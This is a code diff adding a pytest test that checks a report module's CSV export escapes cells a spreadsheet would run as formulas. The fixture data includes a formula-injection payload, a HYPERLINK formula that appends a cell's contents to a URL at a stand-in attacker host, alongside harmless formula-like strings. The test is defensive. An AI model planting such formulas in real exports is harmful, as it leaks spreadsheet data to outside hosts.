@@ -614,3 +614,31 @@ def test_the_sample_prompt_pool_covers_the_taxonomy() -> None:
     assert sum(bool(p.history) for p in everything) >= 5
     assert sum(p.call is not None for p in everything) >= 5
     assert sum(not p.user.isascii() for p in everything) >= 15
+
+
+def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
+    """An app or model name that a spreadsheet would run as a formula is written as text."""
+    from types import SimpleNamespace
+
+    import pandas as pd
+
+    from traffic.analysis import Column, Table
+    from traffic.report import export_files
+
+    frame = pd.DataFrame(
+        {
+            "app": ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "@SUM(A1)", "-2+3", "ide-plugin"],
+            "n": [1, 2, 3, -4, 5],
+        }
+    )
+    table = Table("apps", "Apps", [Column("app", "App"), Column("n", "Requests", "int")], frame)
+    [path] = export_files(SimpleNamespace(tables={"apps": table}), [], tmp_path, ["csv"])
+    written = pd.read_csv(path)
+    assert list(written["app"]) == [
+        '\'=HYPERLINK("http://evil.example?"&A1)',
+        "'+1+1",
+        "'@SUM(A1)",
+        "'-2+3",
+        "ide-plugin",
+    ]
+    assert list(written["n"]) == [1, 2, 3, -4, 5]
